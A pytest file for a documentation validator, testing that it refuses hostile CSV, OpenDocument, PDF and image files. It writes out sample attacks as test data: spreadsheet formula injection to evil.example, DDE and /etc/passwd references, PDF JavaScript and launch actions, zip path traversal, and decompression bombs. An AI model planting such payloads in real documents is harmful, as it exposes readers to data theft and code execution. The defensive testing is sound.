"""Documents of the docs folder are checked for what they are: CSV, OpenDocument, PDF
and images, each built here small, hostile and harmless."""

from __future__ import annotations

import io
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from odf.opendocument import OpenDocumentSpreadsheet, OpenDocumentText
from odf.table import Table, TableCell, TableRow
from odf.text import A, P
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from oshub.core.problems import Problem
from oshub.core.project import load_project
from oshub.validate.docs_files import check_docs_file
from oshub.validate.document_csv import check_csv_text
from oshub.validate.document_images import MAX_PIXELS, image_problem
from oshub.validate.document_odf import odf_problems
from oshub.validate.document_pdf import object_headers, pdf_problems
from oshub.validate.run import validate_project
from support import REPO

Write = Callable[[str, str | bytes], Path]


def _at(problems: list[Problem]) -> list[tuple[int, int]]:
    return [(p.line, p.col) for p in problems]


# CSV


def test_cells_a_spreadsheet_would_run_are_refused_at_their_line_and_column() -> None:
    text = (
        "name,link,amount\n"
        'Lemnos,"=HYPERLINK(""https://evil.example"",""click"")",-3.5\n'
        "note,\"two\nlines\",  =cmd|' /C calc'!A0\n"
        "a,@SUM(A1),+1e3\n"
        '"x","  ""=1+1""",\t-1\n'
        "y,-x,--\n"
    )
    problems = check_csv_text(text, "blueprint/t.csv")
    assert _at(problems) == [(2, 8), (4, 8), (5, 3), (6, 5), (6, 18), (7, 3)]
    assert "=HYPERLINK" in problems[0].message
    assert all(p.is_error for p in problems)


def test_numbers_dashes_and_text_are_not_formulas() -> None:
    text = "lat,lon,delta,placeholder,note\n52.1,-3.5,+12%,-,A well; ok\n-0.5e-3,,.5,---,x-y\n"
    assert check_csv_text(text, "t.csv") == []


def test_a_formula_after_another_separator_is_refused() -> None:
    problems = check_csv_text('a,"text; =HYPERLINK(""x"")"\n', "t.csv")
    assert _at(problems) == [(1, 3)]


def test_semicolon_tables_are_read_with_their_separator() -> None:
    assert _at(check_csv_text("a;b\n1,5;=1+1\n", "t.csv")) == [(2, 5)]


def test_a_separator_line_excel_honours_is_refused() -> None:
    for first in ("sep=x", "SEP=;", '"sep=|"'):
        problems = check_csv_text(
            first + '\nax=HYPERLINK("http://evil.example/","click")\n', "t.csv"
        )
        assert _at(problems) == [(1, 1)]
        assert problems[0].message.startswith("a `sep=` first line")
    assert check_csv_text("name,separator\nx,sep=;\n", "t.csv") == []


def test_the_projects_own_tables_pass() -> None:
    from oshub.model.content import load_site
    from oshub.outputs.exports.templates_odf import budget_csv, budget_ods, canvas_csv, canvas_odt

    site = load_site(load_project(REPO))[1]
    assert check_csv_text(canvas_csv(site.canvas), "c.csv") == []
    assert check_csv_text(budget_csv(site.budget), "b.csv") == []
    assert odf_problems(canvas_odt(site.canvas), ".odt") == []
    assert odf_problems(budget_ods(site.budget), ".ods") == []


# OpenDocument


def _ods(formula: str | None = None) -> bytes:
    doc = OpenDocumentSpreadsheet()
    table = Table(name="Sheet1")
    row = TableRow()
    if formula is not None:
        row.addElement(TableCell(valuetype="float", value=0, formula=formula))
    else:
        row.addElement(TableCell(valuetype="float", value=3))
    table.addElement(row)
    doc.spreadsheet.addElement(table)
    out = io.BytesIO()
    doc.write(out)
    return out.getvalue()


def _with_member(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, content)
    return out.getvalue()


def _replaced(data: bytes, member: str, old: bytes, new: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info)
            target.writestr(info, content.replace(old, new) if info.filename == member else content)
    return out.getvalue()


def test_a_plain_spreadsheet_passes() -> None:
    assert odf_problems(_ods(), ".ods") == []
    assert odf_problems(_ods("of:=SUM([.A1:.A3])"), ".ods") == []


def test_a_spreadsheet_with_a_macro_is_refused() -> None:
    macro = _with_member(_ods(), "Basic/Standard/Module1.xml", b"<module/>")
    assert odf_problems(macro, ".ods") == ["macros (`Basic/Standard/Module1.xml`)"]
    script = _with_member(_ods(), "Scripts/python/run.py", b"import os")
    assert odf_problems(script, ".ods") == ["macros (`Scripts/python/run.py`)"]


@pytest.mark.parametrize(
    "formula",
    [
        'of:=HYPERLINK("https://evil.example";"click")',
        'of:=COM.MICROSOFT.WEBSERVICE("https://evil.example/"&[.A1])',
        'of:=DDE("soffice";"/etc/passwd";"")',
        "of:=['file:///home/secret.ods'#$Sheet1.A1]",
    ],
)
def test_formulas_reaching_outside_are_refused(formula: str) -> None:
    (problem,) = odf_problems(_ods(formula), ".ods")
    assert "formula" in problem and "content.xml, line" in problem


def test_indirect_is_refused_however_its_reference_is_built() -> None:
    formula = 'of:=INDIRECT("\'fi"&"le:"&"//"&"/etc/passwd\'"&"#"&"$passwd.A1")'
    (problem,) = odf_problems(_ods(formula), ".ods")
    assert problem.startswith(
        "a formula that reaches outside the document "
        "(`INDIRECT`: it can build a reference to another file)"
    )
    assert odf_problems(_ods("of:=indirect([.A1])"), ".ods") != []


_NAMESPACES = (
    b' xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0"'
    b' xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"'
)


def _odt_with(inner: bytes) -> bytes:
    """A text document whose body holds ``inner`` (form and calcext namespaces declared)."""
    doc = OpenDocumentText()
    doc.text.addElement(P(text="Hello"))
    out = io.BytesIO()
    doc.write(out)
    return _replaced(
        out.getvalue(),
        "content.xml",
        b"<text:p",
        b"<text:section" + _NAMESPACES + b">" + inner + b"</text:section><text:p",
    )


def test_macro_fields_form_resources_and_formulas_in_any_namespace_are_refused() -> None:
    hostile = {
        b'<text:p><text:execute-macro text:name="vnd.sun.star.script:Tools.X?language=Basic'
        b'&amp;location=application">click</text:execute-macro></text:p>': (
            "a field that runs a macro"
        ),
        b'<form:button form:name="b" form:image-data="https://evil.example/track.png"/>': (
            "`<form:button>` loads `https://evil.example/track.png` from outside the document"
        ),
        b'<form:button form:name="b" form:target-location="file:///C:/x.exe"/>': (
            "a link that opens a file or runs something: `file:///C:/x.exe`"
        ),
        b'<form:form form:name="f" form:datasource="file:///etc/x.odb"/>': (
            "a form that reads a database (`file:///etc/x.odb`)"
        ),
        b'<calcext:condition calcext:value="formula-is(WEBSERVICE(&quot;https://evil.example/'
        b'&quot;))"/>': "a formula that reaches outside the document (`WEBSERVICE`)",
        b'<text:p calcext:anything="x:hyperlink (&quot;https://evil.example/&quot;)"/>': (
            "a formula that reaches outside the document (`HYPERLINK`)"
        ),
    }
    for inner, expected in hostile.items():
        (problem,) = odf_problems(_odt_with(inner), ".odt")
        assert problem.startswith(expected), problem
        assert "(content.xml, line " in problem
    xforms = (
        b'<xf:model xmlns:xf="http://www.w3.org/2002/xforms"><xf:submission action="x"/></xf:model>'
    )
    assert [p.split(" (content.xml")[0] for p in odf_problems(_odt_with(xforms), ".odt")] == [
        "an XForms model (`model`: loads or sends data)",
        "an XForms model (`submission`: loads or sends data)",
    ]
    web = b'<form:button form:name="b" form:target-location="https://oshub.network/"/>'
    assert odf_problems(_odt_with(web), ".odt") == []


def test_a_document_that_cannot_be_unpacked_is_refused_not_a_crash() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", b"<x>" + b"ab" * 500 + b"</x>")
    data = bytearray(out.getvalue())
    start = data.index(b"content.xml") + len(b"content.xml")  # its local header's name
    data[start : start + 8] = b"\xff" * 8  # the deflate stream's first bytes corrupted
    (problem,) = odf_problems(bytes(data), ".ods")
    assert problem.startswith("not an OpenDocument file that can be read (zlib.error: ")


def test_events_dde_and_linked_files_are_refused_in_any_document() -> None:
    doc = OpenDocumentText()
    doc.text.addElement(P(text="Hello"))
    out = io.BytesIO()
    doc.write(out)
    data = out.getvalue()
    hostile = {
        b"<text:p": b'<office:event-listeners xmlns:script="urn:oasis:names:tc:opendocument:xmlns:'
        b'script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><script:event-listener '
        b'script:language="ooo:script"'
        b' script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>'
        b"</office:event-listeners><text:p",
        b"</office:text>": b'<text:section text:name="s" xmlns:xlink="http://www.w3.org/1999/xlink">'
        b"<text:section-source "
        b'xlink:href="../secret.odt"/></text:section><text:dde-connection-decls/></office:text>',
    }
    found = []
    for old, new in hostile.items():
        found.extend(odf_problems(_replaced(data, "content.xml", old, new), ".odt"))
    assert [p.split(" (content.xml")[0] for p in found] == [
        "event listeners (actions run on events)",
        "an event listener (an action run on an event)",
        "`<script:event-listener>` loads `vnd.sun.star.script:x` from outside the document",
        "`<text:section-source>` loads `../secret.odt` from outside the document",
        "DDE connections",
    ]


def test_clickable_links_to_web_pages_pass_and_to_files_do_not() -> None:
    doc = OpenDocumentText()
    paragraph = P()
    paragraph.addElement(A(href="https://oshub.network/", text="site"))
    paragraph.addElement(A(href="#top", text="top"))
    paragraph.addElement(A(href="file:///etc/passwd", text="file"))
    paragraph.addElement(A(href="vnd.sun.star.script:Standard.Module1.Main", text="run"))
    doc.text.addElement(paragraph)
    out = io.BytesIO()
    doc.write(out)
    problems = odf_problems(out.getvalue(), ".odt")
    assert [p.split(":")[0] for p in problems] == ["a link that opens a file or runs something"] * 2


def test_zip_tricks_and_bombs_are_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", b" " * (30 * 1024 * 1024))
    assert "unpacks to more than" in odf_problems(out.getvalue(), ".ods")[0]
    evil = _with_member(_ods(), "../../etc/cron.d/x", b"x")
    assert "leaves the package" in odf_problems(evil, ".ods")[0]
    assert "not an OpenDocument file of its kind" in odf_problems(_ods(), ".odt")[0]
    assert "not a readable zip" in odf_problems(b"hello", ".ods")[0]
    entity = _replaced(_ods(), "content.xml", b"?>", b'?><!DOCTYPE x [<!ENTITY a "b">]>')
    assert "a DOCTYPE or entity declaration" in odf_problems(entity, ".ods")[0]


# PDF


def _pdf(change: Callable[[PdfWriter], None] | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    if change is not None:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def _object_stream_pdf(typed: bytes = b"/Type /ObjStm ", decode: bytes = b"/FlateDecode") -> bytes:
    """A PDF 1.5 whose catalog and open action live in a compressed object stream and
    are written with #-escaped names: nothing of them is visible in the file's bytes
    (``typed``: how the stream says what it is; ``decode``: its filter)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Op#65nAction 4 0 R >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    ]
    numbers = [1, 2, 4]
    body = b""
    header = b""
    for number, obj in zip(numbers, objects, strict=True):
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    packed = zlib.compress(header + body)
    out = b"%PDF-1.5\n"
    offset_3 = len(out)
    out += (
        b"3 0 obj\n<< %s/N 3 /First %d /Filter %s /Length %d >>\nstream\n"
        % (typed, len(header), decode, len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    offset_5 = len(out)
    rows = [(0, 0, 65535), (2, 3, 0), (2, 3, 1), (1, offset_3, 0), (2, 3, 2), (1, offset_5, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offset_5
    )
    assert b"JavaScript" not in out and b"OpenAction" not in out
    return out


def test_a_plain_pdf_passes() -> None:
    assert pdf_problems(_pdf()) == []


def test_javascript_run_on_opening_is_refused() -> None:
    problems = pdf_problems(_pdf(_open_action))
    assert [p.split(" (")[0] for p in problems] == [
        "an action run when the file opens",
        "JavaScript",
        "JavaScript",
    ]


def test_escaped_names_inside_object_streams_are_read() -> None:
    problems = " ".join(pdf_problems(_object_stream_pdf()))
    assert "`/OpenAction`, object 1" in problems
    assert "`/JavaScript`, object 4" in problems


def test_object_streams_are_read_whatever_their_type_says() -> None:
    """Poppler reads an object stream the cross-reference stream names, without
    ``/Type /ObjStm`` or with another type; pypdf does not."""
    for typed in (b"", b"/Type /XObject "):
        problems = " ".join(pdf_problems(_object_stream_pdf(typed)))
        assert "`/OpenAction`, object 1" in problems
        assert "`/JavaScript`, object 4" in problems


def test_an_object_stream_no_reader_can_decode_is_refused_not_a_crash() -> None:
    (problem,) = pdf_problems(_object_stream_pdf(decode=b"/FooDecode"))
    assert (
        problem == "not a PDF that can be read (NotImplementedError: Unsupported filter /FooDecode)"
    )


def test_an_embedded_file_without_its_type_is_refused() -> None:
    def attach(writer: PdfWriter) -> None:
        stream = DecodedStreamObject()
        stream.set_data(b"MZ")
        spec = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Filespec"),
                NameObject("/F"): TextStringObject("x.exe"),
                NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(stream)}),
            }
        )
        writer._root_object[NameObject("/AF")] = ArrayObject([writer._add_object(spec)])

    (problem,) = pdf_problems(_pdf(attach))
    assert problem.startswith("an embedded file (`/EF`")


def test_embedded_files_and_other_actions_are_refused() -> None:
    attached = " ".join(pdf_problems(_pdf(lambda w: w.add_attachment("a.exe", b"MZ"))))
    assert "/EmbeddedFiles" in attached and "/EmbeddedFile`" in attached

    def launch(writer: PdfWriter) -> None:
        action = DictionaryObject({NameObject("/S"): NameObject("/Launch")})
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})

    launched = " ".join(pdf_problems(_pdf(launch)))
    assert "`/AA`" in launched and "`/Launch`" in launched


def test_an_object_no_table_lists_is_read_too() -> None:
    data = _pdf().replace(b"%%EOF", b"%%EOF\n99 0 obj\n<< /S /SubmitForm >>\nendobj\n")
    assert "`/SubmitForm`, object 99" in " ".join(pdf_problems(data))


def test_what_pypdf_cannot_read_is_refused() -> None:
    assert pdf_problems(b"<html>not a pdf</html>")[0].startswith("not a PDF that can be read")


# images


def _png(width: int, height: int, rows: int | None = None) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    scanlines = b"".join(b"\0" + b"\0" * width for _ in range(height if rows is None else rows))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(scanlines))
        + chunk(b"IEND", b"")
    )


def test_real_images_of_every_kind_pass(tmp_path: Path) -> None:
    from PIL import Image

    path = tmp_path / "dot.png"
    path.write_bytes(_png(3, 2))
    assert image_problem(path) is None
    picture = Image.new("RGB", (4, 3), (200, 120, 40))
    for suffix in (".jpg", ".jpeg", ".gif", ".webp", ".avif"):
        other = tmp_path / f"dot{suffix}"
        picture.save(other)
        assert image_problem(other) is None, suffix
    animated = tmp_path / "moving.gif"
    picture.save(animated, save_all=True, append_images=[picture.rotate(180)] * 3)
    assert image_problem(animated) is None


def test_a_huge_image_is_refused_from_its_header(tmp_path: Path) -> None:
    path = tmp_path / "bomb.png"
    path.write_bytes(_png(50_000, 50_000, rows=2))
    assert path.stat().st_size < 1000
    assert str(image_problem(path)).startswith(
        f"more pixels than the {MAX_PIXELS // 1_000_000} megapixels an image may have"
    )
    wide = tmp_path / "wide.png"
    wide.write_bytes(_png(40_000, 1_001, rows=2))  # under Pillow's own limit, over ours
    assert image_problem(wide) == (
        f"40000 x 1001 pixels is more than the {MAX_PIXELS // 1_000_000} megapixels "
        "an image may have"
    )


def test_an_image_that_is_not_what_its_name_says_is_refused(tmp_path: Path) -> None:
    text = tmp_path / "plan.png"
    text.write_text("not an image\n", encoding="utf-8")
    assert image_problem(text) == "not a PNG image (its bytes are not what the `.png` name says)"
    png_as_jpeg = tmp_path / "photo.jpg"
    png_as_jpeg.write_bytes(_png(2, 2))
    assert image_problem(png_as_jpeg) is not None
    cut = tmp_path / "cut.png"
    cut.write_bytes(_png(200, 200)[:-40])
    assert "cannot be decoded" in str(image_problem(cut))
    import weasyprint  # noqa: F401  (it tells Pillow to load cut images, process-wide)
    from PIL import ImageFile

    assert ImageFile.LOAD_TRUNCATED_IMAGES
    assert "cannot be decoded" in str(image_problem(cut))  # refused all the same
    assert ImageFile.LOAD_TRUNCATED_IMAGES  # and WeasyPrint's setting is left as it was


def test_a_bad_image_is_reported_where_pages_use_it(project: Path, write: Write) -> None:
    write("blueprint/guides/facilitation/index.md", "# Facilitation\n")
    write(
        "blueprint/about.md",
        "# About\n\nSee the plan:\n\n![a plan](img/plan.png)\n\n"
        "and <img alt='again' src='img/plan.png'>\n",
    )
    write("blueprint/img/plan.png", "text\n")
    write("blueprint/img/unused.gif", "GIF89a")
    problems = validate_project(load_project(project)).problems
    where = [(p.path, p.line, p.col) for p in problems if "image `" in p.message]
    assert where == [
        ("blueprint/about.md", 5, 11),
        ("blueprint/about.md", 7, 22),
        ("blueprint/img/unused.gif", 1, 1),
    ]
    assert "image `blueprint/img/plan.png`: not a PNG image" in problems[0].message


def test_check_docs_file_dispatches_each_kind(project: Path, write: Write) -> None:
    docs = project / "blueprint"
    write("blueprint/t.csv", "a\n=1\n")
    write("blueprint/d.pdf", _pdf(_open_action))
    write("blueprint/s.ods", _ods('of:=HYPERLINK("x")'))
    write("blueprint/i.webp", "x")
    write("blueprint/notes.txt", "=1\n")  # plain text: nobody evaluates it
    found = {
        rel: [
            p.message.split(":")[0] for p in check_docs_file(docs / rel, rel, "blueprint", project)
        ]
        for rel in ("t.csv", "d.pdf", "s.ods", "i.webp", "notes.txt")
    }
    assert found == {
        "t.csv": ["a spreadsheet would run this cell as a formula"],
        "d.pdf": ["a PDF that may not be published"] * 3,
        "s.ods": ["an OpenDocument file that may not be published"],
        "i.webp": ["image `blueprint/i.webp`"],
        "notes.txt": [],
    }


def test_documents_that_break_their_readers_are_refused_not_a_crash(
    project: Path, write: Write
) -> None:
    """An object stream with an unknown filter and a corrupt deflate stream: `oshub
    validate` reports each file, at the file, and goes on."""
    write("blueprint/filter.pdf", _object_stream_pdf(decode=b"/FooDecode"))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", b"<x>" + b"ab" * 500 + b"</x>")
    corrupt = bytearray(out.getvalue())
    start = corrupt.index(b"content.xml") + len(b"content.xml")
    corrupt[start : start + 8] = b"\xff" * 8
    write("blueprint/deflate.ods", bytes(corrupt))
    problems = validate_project(load_project(project)).problems
    assert sorted((p.path, p.message.split(" (")[0]) for p in problems) == [
        (
            "blueprint/deflate.ods",
            "an OpenDocument file that may not be published: "
            "not an OpenDocument file that can be read",
        ),
        ("blueprint/filter.pdf", "a PDF that may not be published: not a PDF that can be read"),
    ]


def test_any_error_of_a_check_refuses_the_file_but_an_interrupt_stops(
    project: Path, write: Write, monkeypatch: pytest.MonkeyPatch
) -> None:
    from oshub.validate import documents

    def run_out(*_: object) -> list[Problem]:
        raise MemoryError

    def interrupt(*_: object) -> list[Problem]:
        raise KeyboardInterrupt

    docs = project / "blueprint"
    write("blueprint/s.ods", _ods())
    monkeypatch.setattr(documents, "check_odf", run_out)
    (problem,) = check_docs_file(docs / "s.ods", "s.ods", "blueprint", project)
    assert (problem.path, problem.line, problem.message) == (
        "blueprint/s.ods",
        1,
        "cannot be read: MemoryError",
    )
    assert problem.is_error
    write("blueprint/t.ods", _ods())
    monkeypatch.setattr(documents, "check_odf", interrupt)
    with pytest.raises(KeyboardInterrupt):
        check_docs_file(docs / "t.ods", "t.ods", "blueprint", project)


# the light layer


def test_light_validate_says_in_one_line_which_checks_it_skipped(tmp_path: Path) -> None:
    from support import make_project

    root = make_project(tmp_path / "p")
    (root / "blueprint").mkdir()
    (root / "blueprint/a.pdf").write_bytes(_pdf(_open_action))
    (root / "blueprint/b.png").write_text("text\n", encoding="utf-8")
    (root / "blueprint/c.png").write_bytes(_png(1, 1))
    (root / "blueprint/t.csv").write_text("=1\n", encoding="utf-8")
    run = (
        "import sys\n"
        "for name in ('pypdf', 'PIL'):\n"
        "    sys.modules[name] = None  # import fails as if it were not installed\n"
        "from oshub.cli.main import main\n"
        "sys.exit(main(sys.argv[1:]))\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", run, "validate", "--format", "json"],
        cwd=root,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 1  # the CSV check needs no package
    assert '"path": "blueprint/t.csv"' in result.stdout and "a.pdf" not in result.stdout
    assert result.stderr.splitlines() == [
        "note: not checked here for what they are: 1 PDF, 2 images (pypdf and Pillow not "
        "installed); the build checks them, or: pip install 'oshub[site]'"
    ]


# images on other hosts


def test_images_on_other_hosts_are_refused_at_their_line_and_column() -> None:
    from oshub.validate.markdown_check import scan_body

    body = (
        "# Plans\n"
        "![a plan](https://cdn.example/plan.png) and [a page](https://oshub.network/)\n"
        "![a logo][logo] and `![code](https://example.org/not-read.png)`\n"
        "\n"
        "<img alt='x' src='&#47;&#47;tracker.example/p.gif'>\n"
        "![ours](img/plan.png)\n"
        "\n"
        "[logo]: //cdn.example/logo.png\n"
        "[page]: https://oshub.network/about/\n"
    )
    problems = [p for p in scan_body(body, "x.md", 2).problems if "another host" in p.message]
    assert _at(problems) == [(4, 11), (7, 14), (10, 9)]


def test_an_object_pypdf_cannot_parse_is_still_read_for_names() -> None:
    broken = b"\n98 0 obj\n<< /S /J#61vaScript /JS (app.alert(1)) /Broken [1 2 >>\nendobj\n"
    data = _pdf().replace(b"%%EOF", b"%%EOF" + broken)
    assert "`/JavaScript`, object 98" in " ".join(pdf_problems(data))
    deep = _pdf().replace(b"%%EOF", b"%%EOF\n97 0 obj\n" + b"[" * 100_000 + b"\nendobj\n")
    assert pdf_problems(deep) == ["too large to check (object 97 is nested too deeply)"]


def test_the_build_refuses_to_run_without_the_document_checks(tmp_path: Path) -> None:
    """The build publishes what these checks pass: without pypdf it stops, through
    oshub and through mkdocs (the plugin) alike, before anything is built."""
    block = "import sys\nsys.modules['pypdf'] = None\n"
    commands = {
        "oshub": "from oshub.cli.main import main\nsys.exit(main(['build']))\n",
        "mkdocs": "from mkdocs.__main__ import cli\ncli(['build', '-d', sys.argv[1]])\n",
    }
    for name, code in commands.items():
        result = subprocess.run(
            [sys.executable, "-c", block + code, str(tmp_path / "out")],
            cwd=REPO,
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
        )
        assert result.returncode != 0, name
        assert "pypdf" in result.stderr and "pip install 'oshub[site]'" in result.stderr, name
        assert "Traceback" not in result.stderr, name
    assert not (tmp_path / "out").exists()


def test_links_to_web_pages_pass_and_script_or_file_links_do_not() -> None:
    def link(uri: str) -> Callable[[PdfWriter], None]:
        def change(writer: PdfWriter) -> None:
            action = DictionaryObject(
                {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(uri)}
            )
            annotation = DictionaryObject(
                {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action}
            )
            writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

        return change

    assert pdf_problems(_pdf(link("https://oshub.network/"))) == []
    (problem,) = pdf_problems(_pdf(link("javascript:app.alert(1)")))
    assert problem.startswith("a link that is not to a web page (`/URI javascript:`")
    (problem,) = pdf_problems(_pdf(link("calc.exe")))
    assert problem.startswith("a link that is not to a web page (`/URI (no scheme)`")


def _link_pdf(action: bytes, *extra: bytes) -> bytes:
    """A one-page PDF whose page has a link running ``action``; ``extra`` objects
    follow (numbered from 5)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A " + action + b" >>",
        *extra,
    ]
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        table,
    )
    return out


def test_link_addresses_are_read_through_references_and_as_bytes() -> None:
    assert pdf_problems(_link_pdf(b"<< /S /URI /URI 5 0 R >>", b"(https://oshub.network/)")) == []
    indirect = _link_pdf(b"<< /S /URI /URI 5 0 R >>", b"(javascript:app.alert\\(1\\))")
    assert [p.split(", object")[0] for p in pdf_problems(indirect)] == [
        "a link that is not to a web page (`/URI javascript:`"
    ]
    hex_string = b"file:///etc/passwd".hex().encode() + b"ad"
    (problem,) = pdf_problems(_link_pdf(b"<< /S /URI /URI <" + hex_string + b"> >>"))
    assert problem.startswith("a link that is not to a web page (`/URI file:`")


def test_threads_of_other_files_and_a_file_base_for_links_are_refused() -> None:
    (thread,) = pdf_problems(_link_pdf(b"<< /S /Thread /F (\\\\evil\\share\\x.pdf) /D 0 >>"))
    assert thread.startswith("an action that opens another file")
    assert pdf_problems(_link_pdf(b"<< /S /Thread /D 0 >>")) == []
    based = _link_pdf(b"<< /S /URI /URI (https://oshub.network/) >>").replace(
        b"/Pages 2 0 R >>", b"/Pages 2 0 R /URI << /Base (file:///C:/Windows/) >> >>", 1
    )
    (problem,) = pdf_problems(based)
    assert problem == "a base for links that is not a web address (`/URI /Base`, object 1)"
    web_base = based.replace(b"file:///C:/Windows/", b"https://oshub.network/")
    assert pdf_problems(web_base) == []


def test_every_object_header_is_found_listed_or_not() -> None:
    data = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n12\n3  obj (hidden)\nx obj 7 0\x00obj 40 obj 5 6 obj"
    # `7 0<NUL>obj` has no space before `obj`, `40 obj` no object number: neither is one
    assert list(object_headers(data)) == [
        (1, data.index(b"1 0 obj")),
        (12, data.index(b"12\n3")),
        (5, data.index(b"5 6 obj")),
    ]
    assert list(object_headers(b"no objects here, nor obj")) == []
